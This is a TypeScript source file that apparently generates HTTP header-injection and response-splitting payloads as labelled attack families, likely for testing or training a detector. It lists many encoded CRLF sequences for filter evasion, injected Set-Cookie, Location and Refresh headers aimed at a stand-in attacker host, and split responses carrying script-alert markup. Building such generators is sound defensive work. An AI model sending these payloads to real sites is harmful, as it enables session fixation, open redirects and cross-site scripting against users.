/** A line break that ends one header and begins another: header injection and response splitting. */
import type { Family } from '../../family.ts';
import {
  ALPHANUMERIC,
  characters,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  repeat,
  text,
  weighted,
} from '../../grammar.ts';
import { attackerHost, fieldName, plainValue, token } from '../lexicon.ts';
import { ANY_INPUT, familyOf } from '../places.ts';
import { amongPairs, pagePath } from '../surroundings.ts';

/** A line break as it is smuggled through decoders, filters and character sets. */
export const lineBreak: Rule = weighted(
  [10, '%0d%0a'],
  [6, '%0D%0A'],
  [6, '\r\n'],
  [4, '%0a'],
  [2, '%0A'],
  [2, '\n'],
  [2, '%0d'],
  [2, '%250d%250a'],
  [1, '%250a'],
  [1, '%25250d%25250a'],
  [2, '%E5%98%8A%E5%98%8D'],
  [1, '%e5%98%8d%e5%98%8a'],
  [1, '嘊嘍'],
  [2, '\\r\\n'],
  [1, '%u000d%u000a'],
  [1, '%u000a'],
  [1, '%%0d0a'],
  [1, '%0d%0a%09'],
  [1, '%0d%0a%20'],
  [1, '%23%0d%0a'],
  [1, '%3f%0d%0a'],
  [1, '%25%30%64%25%30%61'],
  [1, '%c4%8d%c4%8a'],
  [1, '&#13;&#10;'],
  [1, '\\u000d\\u000a'],
  [1, '%0d%0d%0a%0a'],
);

const colon: Rule = weighted([6, ':'], [6, ': '], [2, ':%20'], [1, '%3a'], [1, '%3A%20'], [1, ':+']);
const space: Rule = weighted([3, ' '], [3, '%20'], [1, '+']);

const cookie: Rule = text`${oneOf('Set-Cookie', 'Set-cookie', 'set-cookie', 'SET-COOKIE')}${colon}${oneOf('crlf', 'crlfinjection', 'PHPSESSID', 'JSESSIONID', 'session', 'admin', 'mycookie', 'param', 'sid', 'loggedin', token)}=${oneOf('crlfinjection', 'injected', 'true', '1', 'myvalue', token)}${maybe(text`;${maybe(space)}${oneOf('path=/', 'domain=.example.com', 'HttpOnly', 'Max-Age=9999999', 'expires=Mon, 01-Jan-2035 00:00:00 GMT')}`, 0.3)}`;

const injectedHeader: Rule = weighted(
  [6, cookie],
  [3, text`Location${colon}${oneOf('http://', 'https://', '//', 'http:%2f%2f')}${attackerHost}${maybe('/')}`],
  [2, text`Content-Length${colon}${integer(0, 99)}`],
  [
    2,
    text`Content-Type${colon}text/html${maybe(text`;${maybe(space)}charset=${oneOf('utf-7', 'UTF-7', 'UTF-8', 'iso-8859-1')}`, 0.4)}`,
  ],
  [
    2,
    text`${oneOf('X-Injected', 'X-Injected-Header', 'X-Test', 'Injected', 'Header-Test', 'X-Crlf', 'New-Header', text`X-${characters(LOWER_CASE, 3, 8)}`, 'Custom-Header')}${colon}${oneOf('true', 'crlf', token, 'injected', text`${characters(LOWER_CASE, 2, 7)}-injection`)}`,
  ],
  [1, text`Access-Control-Allow-Origin${colon}${oneOf('*', attackerHost, 'null')}`],
  [1, text`X-XSS-Protection${colon}0`],
  [1, text`Refresh${colon}0;${maybe(space)}url=http://${attackerHost}`],
  [1, text`Link${colon}<http://${attackerHost}/${token}.css>;rel=stylesheet`],
  [1, text`Status${colon}${integer(200, 503)}`],
  [1, text`Host${colon}${attackerHost}`],
  [1, text`Transfer-Encoding${colon}chunked`],
  [1, text`Referer${colon}${attackerHost}`],
  [1, text`X-Forwarded-${oneOf('Host', 'For')}${colon}${oneOf(attackerHost, '127.0.0.1')}`],
  [
    1,
    text`Last-Modified${colon}Mon, ${integer(10, 28)} Oct ${integer(2025, 2060)} 14:${integer(10, 59)}:${integer(10, 59)} GMT`,
  ],
  [1, text`Content-Disposition${colon}attachment;filename=${token}.${oneOf('html', 'exe', 'bat')}`],
  [1, text`Content-Security-Policy${colon}${oneOf('default-src *', text`report-uri //${attackerHost}`)}`],
);

const before: Rule = weighted(
  [3, ''],
  [4, plainValue],
  [1, text`/${characters(LOWER_CASE, 2, 8)}`],
  [1, text`http://${oneOf('example.com', 'localhost', 'www.target.com')}/`],
  [1, text`${fieldName}=${plainValue}`],
);

/** The same break in front of each header: tools do not mix them. */
const injected =
  (least: number, most: number): Rule =>
  (random) => {
    const end = lineBreak(random);
    return `${end}${repeat(injectedHeader, least, most, end)(random)}`;
  };

const injection: Rule = text`${before}${injected(1, 3)}`;

const markup: Rule = oneOf(
  text`<html>${token}</html>`,
  text`<script>alert(${integer(1, 999)})</script>`,
  text`<h1>${oneOf('Hacked', 'deface', 'pwned', 'test')}</h1>`,
  text`<svg onload=alert(${integer(1, 99)})>`,
  text`<html><body>${token}</body></html>`,
);

const splitting: Rule = (random) => {
  const end = lineBreak(random);
  const shape = oneOf(
    text`${end}Content-Length${colon}0${end}${end}HTTP/1.1${space}200${space}OK${end}Content-Type${colon}text/html${end}Content-Length${colon}${integer(10, 99)}${end}${end}${markup}`,
    text`${end}Content-Type${colon}text/html${end}${end}${markup}`,
    text`${end}${end}HTTP/1.${oneOf('0', '1')}${space}${oneOf('200 OK', '302 Found', '200%20OK')}${end}${injectedHeader}${end}${end}${markup}`,
    text`${end}${injectedHeader}${end}${end}${markup}`,
    text`${end}Connection${colon}close${end}${end}${markup}`,
    text`${end}X-XSS-Protection${colon}0${end}${end}${markup}`,
    text`${end}Content-Length${colon}${integer(1, 99)}${end}Content-Type${colon}text/html${end}${end}${markup}`,
  );
  return text`${before}${shape}`(random);
};

const inRequest = (part: Rule): Rule =>
  weighted(
    [8, part],
    [2, amongPairs(text`${fieldName}=${part}`)],
    [2, text`${pagePath}?${fieldName}=${part}`],
    [2, text`/${maybe(text`${characters(LOWER_CASE, 2, 8)}/`)}${part}`],
    [1, text`${pagePath}?${part}`],
    [1, text`${characters(ALPHANUMERIC, 3, 20)}${part}`],
  );

/** Header injection and response splitting. */
export const LINE_BREAK_FAMILIES: readonly Family[] = [
  familyOf('protocol', 'header-injection', inRequest(injection), ANY_INPUT, 2),
  familyOf('protocol', 'response-splitting', inRequest(splitting), ANY_INPUT, 1),
];
